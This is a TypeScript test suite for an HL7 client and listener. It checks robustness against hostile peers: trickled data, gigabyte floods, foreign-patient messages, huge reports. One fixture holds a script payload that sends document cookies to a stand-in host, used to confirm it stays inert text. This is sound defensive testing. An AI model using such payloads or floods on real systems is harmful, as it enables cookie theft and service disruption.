import { createServer, type Server } from 'node:http';
import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { afterEach, describe, expect, it } from 'vitest';
import { type ExchangeOptions, sendMessage } from '../../../src/protocols/hl7/client.ts';
import { readMessage } from '../../../src/protocols/hl7/er7.ts';
import { postMessage } from '../../../src/protocols/hl7/http.ts';
import {
  type Hl7Listener,
  type ListenerOptions,
  startListener,
} from '../../../src/protocols/hl7/listener.ts';
import type { ListenerEvent } from '../../../src/protocols/hl7/listener-session.ts';
import { guessProtocol } from '../../../src/protocols/hl7/noise-hint.ts';
import type { ExchangeOutcome } from '../../../src/protocols/hl7/outcome.ts';
import { createOwnershipCheck } from '../../../src/protocols/hl7/own-message.ts';
import { ackText, block, kinds, ORDER_TEXT, pause, type RawPeer, startRawPeer } from './support.ts';

const ORDER = Buffer.from(ORDER_TEXT);
const MIB = 1024 * 1024;
const closers: (() => unknown)[] = [];

afterEach(async () => {
  await Promise.all(closers.splice(0).map((close) => close()));
});

async function peerThat(answer: (socket: Socket) => void): Promise<RawPeer> {
  const peer = await startRawPeer((socket) => socket.once('data', () => answer(socket)), {
    discard: true,
  });
  closers.push(() => peer.close());
  return peer;
}

async function exchange(
  answer: (socket: Socket) => void,
  options: Partial<ExchangeOptions> = {},
): Promise<ExchangeOutcome> {
  const { port } = await peerThat(answer);
  return await sendMessage(ORDER, { host: '127.0.0.1', port, ackTimeoutMs: 2_000, ...options });
}

/** Writes a piece again and again for as long as the other side takes it; resolves with the bytes it took. */
async function flood(socket: Socket, piece: Buffer, mostBytes = 1024 * MIB): Promise<number> {
  let open = true;
  socket
    .on('error', () => socket.destroy())
    .on('close', () => {
      open = false;
    });
  for (let sent = 0; open && sent < mostBytes; sent += piece.length) {
    if (!socket.write(piece)) {
      await Promise.race([
        new Promise((resolve) => socket.once('drain', resolve)),
        new Promise((resolve) => socket.once('close', resolve)),
      ]);
    }
  }
  return socket.bytesWritten;
}

/** Sends bytes one at a time for as long as the connection stands. */
async function trickle(socket: Socket, text: string, everyMs = 15): Promise<void> {
  socket.on('error', () => socket.destroy());
  for (const byte of Buffer.from(text, 'latin1')) {
    if (socket.destroyed) return;
    socket.write(Buffer.of(byte));
    await pause(everyMs);
  }
}

describe('a peer that answers twice', () => {
  it('in one packet or two: the first answer counts, the second is told', async () => {
    const together = await exchange((s) =>
      s.write(Buffer.concat([block(ackText('AA', 'C1')), block(ackText('AA', 'C1'))])),
    );
    expect(together).toMatchObject({ kind: 'ack', code: 'AA', matches: true });
    expect(together.findings.answer).toEqual([
      { kind: 'repeated-answer', count: 1, contradicts: false },
    ]);
    const apart = await exchange(async (s) => {
      s.write(block(ackText('AA', 'C1')));
      await pause(30);
      s.write(block(ackText('AE', 'C1', '|không lưu được')));
    });
    expect(apart).toMatchObject({ kind: 'ack', code: 'AA' });
    expect(apart.findings.answer).toEqual([
      { kind: 'repeated-answer', count: 1, contradicts: true },
    ]);
  });

  it('AA and then a late commit is no contradiction', async () => {
    const outcome = await exchange((s) =>
      s.write(Buffer.concat([block(ackText('AA', 'C1')), block(ackText('CA', 'C1'))])),
    );
    expect(outcome.findings.answer).toEqual([
      { kind: 'repeated-answer', count: 1, contradicts: false },
    ]);
  });

  it('and then about something else: told apart, and nothing of it kept', async () => {
    const unsolicited = 'MSH|^~\\&|X||||1||ADT^A01|Z|P|2.3.1\rPID|1||SOMEBODY\r';
    const outcome = await exchange((s) =>
      s.write(Buffer.concat([block(ackText('AA', 'C1')), block(unsolicited)])),
    );
    expect(outcome.findings.answer).toEqual([{ kind: 'frames-after-answer', count: 1 }]);
    expect(outcome.transcript.received.toString()).not.toContain('SOMEBODY');
  });

  it('is not waited for when told not to', async () => {
    const outcome = await exchange(
      async (s) => {
        s.write(block(ackText('AA', 'C1')));
        await pause(50);
        s.write(block(ackText('AE', 'C1')));
      },
      { lingerMs: 0 },
    );
    expect(outcome.findings.answer).toEqual([]);
  });

  it('keeps its first answer when the run is stopped meanwhile', async () => {
    const control = new AbortController();
    const outcome = await exchange(
      (s) => {
        s.write(block(ackText('AA', 'C1')));
        setTimeout(() => control.abort(), 50);
      },
      { lingerMs: 60_000, ackTimeoutMs: 60_000, signal: control.signal },
    );
    expect(outcome).toMatchObject({ kind: 'ack', code: 'AA' });
  });
});

describe('a peer that trickles', () => {
  const endless = `\x0bMSH|^~\\&|RIS|${'x'.repeat(4000)}`;

  it('its answer: the deadline is for the whole of it', async () => {
    const outcome = await exchange((s) => void trickle(s, endless), {
      ackTimeoutMs: 300,
      firstByteTimeoutMs: 300,
    });
    expect(outcome).toMatchObject({ kind: 'timeout', phase: 'ack', halfFrame: true });
  });

  it('its TLS handshake', async () => {
    const { port } = await peerThat((s) => void trickle(s, `\x16\x03\x03\x3f\xff${endless}`));
    const outcome = await sendMessage(ORDER, {
      host: '127.0.0.1',
      port,
      tls: {},
      connectTimeoutMs: 300,
    });
    expect(outcome).toMatchObject({ kind: 'timeout', phase: 'tls' });
  });

  it('its HTTP headers or body', async () => {
    const head = 'HTTP/1.1 200 OK\r\nContent-Type: application/hl7-v2\r\n';
    const post = async (text: string) => {
      const { port } = await peerThat((s) => void trickle(s, text));
      return await postMessage(ORDER, { url: `http://127.0.0.1:${port}/`, ackTimeoutMs: 300 });
    };
    expect(await post(`${head}X-Filler: ${'x'.repeat(4000)}`)).toMatchObject({
      kind: 'timeout',
      phase: 'first-byte',
    });
    const { port } = await peerThat((s) => {
      s.write(`${head}Content-Length: 4000\r\n\r\n`);
      void trickle(s, endless);
    });
    expect(
      await postMessage(ORDER, { url: `http://127.0.0.1:${port}/`, ackTimeoutMs: 300 }),
    ).toMatchObject({ kind: 'timeout', phase: 'ack', halfFrame: true });
  });
});

describe('a peer that sends a gigabyte', () => {
  const filler = Buffer.alloc(64 * 1024, 'x');
  const mostBytes = 128 * MIB;

  /** The outcome, and how much the peer could get rid of before we hung up. */
  async function floodedBy(
    first: string,
    piece: Buffer,
  ): Promise<{ outcome: ExchangeOutcome; sent: number }> {
    const { promise: sent, resolve } = Promise.withResolvers<number>();
    const outcome = await exchange(
      (s) => {
        s.write(first);
        resolve(flood(s, piece));
      },
      { maxFrameBytes: MIB, ackTimeoutMs: 30_000 },
    );
    return { outcome, sent: await sent };
  }

  it('in one block', async () => {
    const { outcome, sent } = await floodedBy('\x0bMSH|^~\\&|', filler);
    expect(outcome).toMatchObject({ kind: 'noise', hint: 'oversized-frame' });
    expect(sent).toBeLessThan(mostBytes);
  });

  it('outside any block', async () => {
    const { outcome, sent } = await floodedBy('', filler);
    expect(outcome).toMatchObject({ kind: 'noise', hint: 'unknown' });
    expect(kinds(outcome.findings.framing)).toEqual(['too-much-noise']);
    expect(sent).toBeLessThan(mostBytes);
  });

  it('of line ends', async () => {
    const { outcome, sent } = await floodedBy('', Buffer.alloc(64 * 1024, '\r\n'));
    expect(outcome.kind).toBe('noise');
    expect(sent).toBeLessThan(mostBytes);
  });

  it('of messages for somebody else', async () => {
    const foreign = block('MSH|^~\\&|X||||1||ADT^A01|Z|P|2.3.1\rPID|1||SOMEBODY\r');
    const { outcome, sent } = await floodedBy('', Buffer.concat(Array(500).fill(foreign)));
    expect(outcome).toMatchObject({ kind: 'noise', hint: 'oversized-frame' });
    expect(JSON.stringify(outcome)).not.toContain('SOMEBODY');
    expect(sent).toBeLessThan(mostBytes);
  });

  it('after its answer: the answer counts', async () => {
    const { outcome, sent } = await floodedBy(block(ackText('AA', 'C1')).toString(), filler);
    expect(outcome).toMatchObject({ kind: 'ack', code: 'AA' });
    expect(sent).toBeLessThan(mostBytes);
  });

  it('over HTTP, in the body or in the headers', async () => {
    const { promise: sent, resolve } = Promise.withResolvers<number>();
    const body = await peerThat((s) => {
      s.write('HTTP/1.1 200 OK\r\nContent-Type: application/hl7-v2\r\n\r\n');
      resolve(flood(s, filler));
    });
    const options = { maxAnswerBytes: MIB, ackTimeoutMs: 30_000 };
    expect(
      await postMessage(ORDER, { url: `http://127.0.0.1:${body.port}/`, ...options }),
    ).toMatchObject({ kind: 'noise', hint: 'oversized-frame' });
    expect(await sent).toBeLessThan(mostBytes);
    const headers = await peerThat((s) => {
      s.write('HTTP/1.1 200 OK\r\nX: ');
      void flood(s, filler);
    });
    const outcome = await postMessage(ORDER, {
      url: `http://127.0.0.1:${headers.port}/`,
      ...options,
    });
    expect(outcome).toMatchObject({ kind: 'noise', hint: 'http' });
  });
});

describe('a peer whose answer over HTTP is odd', () => {
  async function post(body: string): Promise<ExchangeOutcome> {
    const server: Server = createServer((request, response) => {
      request.resume().on('end', () => {
        response.writeHead(200, { 'content-type': 'application/hl7-v2' }).end(body);
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    closers.push(() => new Promise((resolve) => server.close(resolve)));
    const address = server.address();
    const port = typeof address === 'object' ? address?.port : 0;
    return await postMessage(ORDER, { url: `http://127.0.0.1:${port}/` });
  }

  it('is framed as for MLLP, or holds two acknowledgements', async () => {
    const framed = await post(block(ackText('AA', 'C1')).toString());
    expect(framed).toMatchObject({ kind: 'ack', code: 'AA', matches: true });
    expect(kinds(framed.findings.encoding)).toEqual(['leading-bytes', 'trailing-end-block']);
    const twice = await post(ackText('AA', 'C1') + ackText('AE', 'C1'));
    expect(twice).toMatchObject({ kind: 'ack', code: 'AA' });
    expect(kinds(twice.findings.encoding)).toEqual(['second-header']);
  });
});

interface Bench {
  readonly listener: Hl7Listener;
  readonly handled: string[];
  readonly events: ListenerEvent[];
}

async function listen(options: Partial<ListenerOptions> = {}): Promise<Bench> {
  const handled: string[] = [];
  const events: ListenerEvent[] = [];
  const listener = await startListener({
    host: '127.0.0.1',
    port: 0,
    allowedPeers: ['127.0.0.1'],
    onEvent: (event) => events.push(event),
    handler: ({ message }) => {
      handled.push(message.at('OBX-5') ?? message.controlId ?? '');
      return { kind: 'ack', code: 'AA' };
    },
    ...options,
  });
  closers.push(() => listener.close());
  return { listener, handled, events };
}

async function open(port: number): Promise<Socket> {
  const socket = connect({ host: '127.0.0.1', port });
  socket.on('error', () => socket.destroy());
  closers.push(() => socket.destroy());
  await new Promise((resolve) => socket.once('connect', resolve));
  return socket;
}

const closed = (socket: Socket): Promise<void> =>
  new Promise((resolve) => (socket.destroyed ? resolve() : socket.once('close', () => resolve())));

describe('our listener', () => {
  it('ends a block that trickles in, however steadily', async () => {
    const bench = await listen({ blockTimeoutMs: 200, idleTimeoutMs: 60_000 });
    const socket = await open(bench.listener.port);
    socket.resume();
    void trickle(socket, `\x0b${'MSH|'.repeat(2000)}`);
    await closed(socket);
    expect(kinds(bench.events)).toContain('block-timeout');
    expect(bench.handled).toEqual([]);
  });

  it('does not blame a peer for the time our handler takes', async () => {
    const bench = await listen({
      blockTimeoutMs: 150,
      handler: async () => {
        await pause(300);
        return { kind: 'ack', code: 'AA' };
      },
    });
    const socket = await open(bench.listener.port);
    const answers: string[] = [];
    socket.on('data', (chunk) => answers.push(chunk.toString()));
    const two = Buffer.concat([block(ORDER_TEXT), block(ORDER_TEXT)]);
    socket.write(two.subarray(0, -20));
    await expect.poll(() => answers.length).toBe(1);
    socket.write(two.subarray(-20));
    await expect.poll(() => answers.length).toBe(2);
    expect(kinds(bench.events)).not.toContain('block-timeout');
  });

  it('ends a connection on which a gigabyte of noise comes', async () => {
    const bench = await listen();
    const socket = await open(bench.listener.port);
    socket.resume();
    expect(await flood(socket, Buffer.alloc(64 * 1024, 'x'))).toBeLessThan(128 * MIB);
    const finding = { kind: 'too-much-noise', limitBytes: MIB, firstBytesHex: '78'.repeat(16) };
    expect(bench.events).toContainEqual({
      kind: 'framing',
      remoteAddress: '127.0.0.1',
      finding,
    });
  });

  it('ends a connection on which a gigabyte comes in one block', async () => {
    const bench = await listen({ maxFrameBytes: MIB });
    const socket = await open(bench.listener.port);
    socket.write('\x0bMSH|');
    expect(await flood(socket, Buffer.alloc(64 * 1024, 'x'))).toBeLessThan(128 * MIB);
    expect(bench.handled).toEqual([]);
  });

  it('ends a connection whose peer sends and never reads', async () => {
    const bench = await listen({
      idleTimeoutMs: 300,
      handler: () => ({ kind: 'raw', bytes: Buffer.alloc(MIB, 'x') }),
    });
    const socket = await open(bench.listener.port);
    socket.pause();
    const many = Buffer.concat(Array(200).fill(block(ORDER_TEXT)));
    expect(await flood(socket, many)).toBeLessThan(128 * MIB);
    expect(kinds(bench.events)).toContain('idle-timeout');
  });

  it('tells TLS on its plain port, so that somebody can be told', async () => {
    const bench = await listen();
    const socket = connectTls({ host: '127.0.0.1', port: bench.listener.port });
    socket.on('error', () => socket.destroy());
    await pause(100);
    socket.destroy();
    await expect.poll(() => kinds(bench.events)).toContain('disconnected');
    const noise = bench.events.flatMap((e) =>
      e.kind === 'framing' && e.finding.kind === 'noise-between-frames'
        ? [guessProtocol(Buffer.from(e.finding.firstBytesHex, 'hex'))]
        : [],
    );
    expect(noise[0]).toBe('tls');
  });
});

describe('messages about somebody else', () => {
  const header = 'MSH|^~\\&|RIS|K|HIS|BV|20261122||ORU^R01|R1|P|2.5.1||||||UNICODE UTF-8\r';
  const isOurs = createOwnershipCheck(['RISPACS-TEST', '000123456789']);
  const about = (...lines: string[]): string => `${header}${lines.join('\r')}\r`;

  it.each([
    ['ours', about('PID|1||RISPACS-TEST'), true],
    ['ours with leading zeros', about('PID|1||000123456789^^^CCCD'), true],
    ['ours, with a number that the RIS added', about('PID|1||0456^^^RIS~RISPACS-TEST'), true],
    ['ours, merged from ours', about('PID|1||RISPACS-TEST', 'MRG|000123456789'), true],
    ['somebody', about('PID|1||0456'), false],
    ['leading zeros lost', about('PID|1||123456789'), false],
    ['another case', about('PID|1||rispacs-test'), false],
    ['nobody', about('OBR|1'), false],
    ['ours and somebody', about('PID|1||RISPACS-TEST', 'OBR|1', 'PID|2||0456'), false],
    ['ours, merged from somebody', about('PID|1||RISPACS-TEST', 'MRG|0456'), false],
    [
      'ours, and another message in the block',
      about('PID|1||RISPACS-TEST') + about('PID|1||9'),
      false,
    ],
  ])('%s', (_, text, expected) => {
    const reading = readMessage(text);
    expect(reading.kind === 'message' && isOurs(reading.message)).toBe(expected);
  });

  it('are refused, dropped and never logged', async () => {
    const bench = await listen({ isOurs });
    const target = { host: '127.0.0.1', port: bench.listener.port, ackTimeoutMs: 2_000 };
    const foreign = about('PID|1||0456||TRẦN^VĂN BÍ MẬT', 'OBX|1|TX|R||bí mật||||||F');
    const refused = await sendMessage(Buffer.from(foreign), target);
    expect(refused).toMatchObject({ kind: 'ack', code: 'AR', matches: true, errCodes: ['204'] });
    expect(bench.handled).toEqual([]);
    expect(bench.events).toContainEqual({ kind: 'foreign-message', remoteAddress: '127.0.0.1' });
    expect(JSON.stringify(bench.events)).not.toMatch(/0456|TR|bí mật|R1/);
    expect(refused.transcript.received.toString()).not.toMatch(/0456|bí mật/);
    const ours = about('PID|1||RISPACS-TEST', 'OBX|1|TX|R||kết quả||||||F');
    expect(await sendMessage(Buffer.from(ours), target)).toMatchObject({ code: 'AA' });
    expect(bench.handled).toEqual(['kết quả']);
  });

  it('hide no message of ours on the same connection', async () => {
    const bench = await listen({ isOurs });
    const socket = await open(bench.listener.port);
    let answers = '';
    socket.on('data', (chunk) => {
      answers += chunk.toString();
    });
    socket.write(Buffer.concat([block(about('PID|1||0456')), block(about('PID|1||RISPACS-TEST'))]));
    await expect.poll(() => answers.match(/MSA\|\w\w/g)).toEqual(['MSA|AR', 'MSA|AA']);
  });
});

describe('reports that are large or mean', () => {
  it('of 20,000 segments come through whole', async () => {
    const rows = Array.from(
      { length: 20_000 },
      (_, i) => `OBX|${i + 1}|TX|R||dòng ${i + 1}||||||F`,
    );
    const text = `${ORDER_TEXT}${rows.join('\r')}\r`;
    const seen: (string | undefined)[] = [];
    const bench = await listen({
      handler: ({ message }) => {
        seen.push(message.at('OBX[20000]-5'), String(message.segmentsOf('OBX').length));
        return { kind: 'ack', code: 'AA' };
      },
    });
    const outcome = await sendMessage(Buffer.from(text), {
      host: '127.0.0.1',
      port: bench.listener.port,
    });
    expect(outcome).toMatchObject({ kind: 'ack', code: 'AA' });
    expect(seen).toEqual(['dòng 20000', '20000']);
  });

  it('with a script in them are text like any other', async () => {
    const script = '<script>fetch("http://x/?"+document.cookie)</script>\x1b[31m';
    const bench = await listen();
    const escaped = script.replaceAll('&', '\\T\\').replaceAll('\x1b', '\\X1B\\');
    const text = `${ORDER_TEXT}OBX|1|TX|R||${escaped}||||||F\r`;
    await sendMessage(Buffer.from(text), { host: '127.0.0.1', port: bench.listener.port });
    expect(bench.handled).toEqual([script]);
  });

  it.each(['\r', '\n', '\r\n'])(
    'with Base64 broken at %j decode, whatever the last line',
    (end) => {
      // 59 lines of 76 and one of four characters, which alone looks like a segment of four letters.
      const bytes = Buffer.alloc(57 * 59 + 3, 0x5a);
      const base64 = bytes.toString('base64');
      const broken = base64.replaceAll(/.{76}/g, (line) => line + end);
      expect(broken.split(end).at(-1)).toMatch(/^[A-Za-z]{4}$/);
      const reading = readMessage(
        `${ORDER_TEXT}OBX|1|ED|x||PACS^IM^JPEG^Base64^${broken}||||||F\rNTE|1||hết\r`,
      );
      if (reading.kind !== 'message') throw new Error(reading.reason);
      const { message } = reading;
      expect(Buffer.from(message.at('OBX-5.5') ?? '', 'base64').equals(bytes)).toBe(true);
      expect([message.at('OBX-11'), message.at('NTE-3')]).toEqual(['F', 'hết']);
    },
  );
});
